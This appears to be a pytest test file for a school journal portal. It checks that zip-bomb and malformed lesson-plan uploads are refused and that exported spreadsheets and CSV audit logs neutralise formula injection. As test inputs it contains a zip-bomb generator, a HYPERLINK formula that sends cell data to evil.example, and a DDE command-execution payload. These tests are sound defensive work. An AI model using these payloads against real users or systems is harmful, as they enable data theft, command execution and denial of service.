"""Files that cross the portal's edge: a lesson plan (КТП) upload that unpacks to far more
than its size is refused before it is parsed, and the spreadsheets and CSV files the portal
writes hold user text as text, never as a formula a spreadsheet would run."""
import csv
import datetime
import io
import tracemalloc
import zipfile

import transaction
from openpyxl import Workbook, load_workbook
from pyramid.traversal import find_resource
from webtest import Upload

from conftest import login
from test_journal import MATH_5A

TODAY = datetime.date.today()
STUDENT = 's0001'         # the demo student, child of the demo parent
FORMULA = '=HYPERLINK("http://evil.example/?leak="&B6,"x")'
CONTENT_TYPES = (b'<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/'
                 b'package/2006/content-types"/>')


def plan_form(app):
    page = app.get(MATH_5A + '/@@plan')
    return [f for f in page.forms.values() if 'file' in f.fields][0]


def upload_plan(app, name, data, status):
    form = plan_form(app)
    form['file'] = Upload(name, data)
    return form.submit('upload', status=status)


def zip_bytes(members):
    out = io.BytesIO()
    with zipfile.ZipFile(out, 'w', zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
        for name, data in members.items():
            archive.writestr(name, data)
    return out.getvalue()


def workbook_parts(rows):
    out = io.BytesIO()
    book = Workbook()
    for row in rows:
        book.active.append(row)
    book.save(out)
    with zipfile.ZipFile(out) as archive:
        return {info.filename: archive.read(info) for info in archive.infolist()}


def zip_bomb(size):
    """A real workbook whose shared strings (read whole by openpyxl, even read-only) are
    ``size`` bytes of one letter: about size / 1000 packed. Written in chunks, so that the
    test itself never holds them."""
    parts = workbook_parts([['№', 'Тема', 'Часы'], [1, 'Дроби', 1]])
    parts['[Content_Types].xml'] = parts['[Content_Types].xml'].replace(
        b'</Types>', b'<Override PartName="/xl/sharedStrings.xml" ContentType="application/'
        b'vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml"/></Types>')
    out = io.BytesIO()
    with zipfile.ZipFile(out, 'w', zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
        for name, data in parts.items():
            archive.writestr(name, data)
        with archive.open('xl/sharedStrings.xml', 'w', force_zip64=True) as strings:
            strings.write(b'<?xml version="1.0"?><sst xmlns="http://schemas.openxmlformats.'
                          b'org/spreadsheetml/2006/main" count="1" uniqueCount="1"><si><t>')
            chunk = b'a' * (1024 * 1024)
            for _ in range(size // len(chunk)):
                strings.write(chunk)
            strings.write(b'</t></si></sst>')
    return out.getvalue()


# -- the lesson plan import ----------------------------------------------------------------------
def test_a_zip_bomb_plan_is_refused_before_it_is_unpacked(as_user, root):
    bomb = zip_bomb(50 * 1024 * 1024)
    assert len(bomb) < 200 * 1024           # far under the 2 MB upload limit
    app = as_user('teacher')
    tracemalloc.start()
    try:
        refused = upload_plan(app, 'plan.xlsx', bomb, 400)
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    # the refusal came from the zip's directory: nothing near 50 MB was unpacked
    assert peak < 20 * 1024 * 1024, peak
    alert = refused.html.find(class_='alert-danger').text
    assert 'unpacks to too much data (at most 20 MB' in alert
    transaction.begin()
    assert find_resource(root, MATH_5A).plan == ()


def test_a_plan_of_too_many_parts_is_refused(as_user):
    many = zip_bytes({'part%d.xml' % i: b'' for i in range(1001)})
    refused = upload_plan(as_user('teacher'), 'plan.xlsx', many, 400)
    assert 'too many parts (at most 1000)' in refused.html.find(class_='alert-danger').text


def test_a_damaged_or_foreign_xlsx_is_a_400_not_a_500(as_user):
    app = as_user('teacher')
    parts = workbook_parts([['№', 'Тема', 'Часы'], [1, 'Дроби', 1]])
    good = zip_bytes(parts)
    broken_sheet = dict(parts, **{'xl/worksheets/sheet1.xml': b'<worksheet><sheetData><row>'})
    for name, data in (('plan.xlsx', b'PK\x03\x04 not a zip at all'),
                       ('plan.xlsx', good[:len(good) // 2]),
                       ('plan.xlsx', zip_bytes({'[Content_Types].xml': CONTENT_TYPES})),
                       ('plan.xlsx', zip_bytes(broken_sheet))):
        refused = upload_plan(app, name, data, 400)
        assert 'not a spreadsheet' in refused.html.find(class_='alert-danger').text, data[:40]
    # the same file whole is read
    preview = upload_plan(app, 'plan.xlsx', good, 200)
    assert 'Дроби' in preview.text


# -- exports -------------------------------------------------------------------------------------
def test_a_formula_as_a_surname_is_text_in_the_xlsx_report(as_user, root):
    student = find_resource(root, '/journal/students/' + STUDENT)
    student.surname, student.first_name, student.patronymic = FORMULA, '', ''
    transaction.commit()
    app = as_user('parent')
    dates = {'from': TODAY.isoformat(), 'to': TODAY.isoformat(), 'format': 'xlsx'}
    for url, params in (('/@report', dict(dates, student=STUDENT)),
                        ('/journal/students/%s/report' % STUDENT, dates)):
        body = app.get(url, params, headers={'Accept': 'application/json'}).body
        sheet = load_workbook(io.BytesIO(body)).active
        cells = [c for row in sheet.iter_rows() for c in row if c.value == FORMULA]
        assert cells, url
        assert all(c.data_type == 's' for c in cells), url
        assert not [c for row in sheet.iter_rows() for c in row if c.data_type == 'f']


def test_a_formula_in_user_text_is_quoted_in_the_audit_csv(testapp, as_user):
    testapp.extra_environ = dict(testapp.extra_environ, HTTP_USER_AGENT=FORMULA)
    login(testapp, '=cmd|" /C calc"!A0', 'wrong')
    testapp.extra_environ = {k: v for k, v in testapp.extra_environ.items()
                             if k != 'HTTP_USER_AGENT'}
    as_user('director')
    response = testapp.get('/settings/@@audit.csv?action=login-failed')
    rows = list(csv.DictReader(io.StringIO(response.body.decode('utf-8-sig'))))
    agents = [r['user_agent'] for r in rows]
    assert "'" + FORMULA in agents and FORMULA not in agents
    for row in rows:
        assert not any(value[:1] in '=+-@\t\r' for value in row.values() if value), row
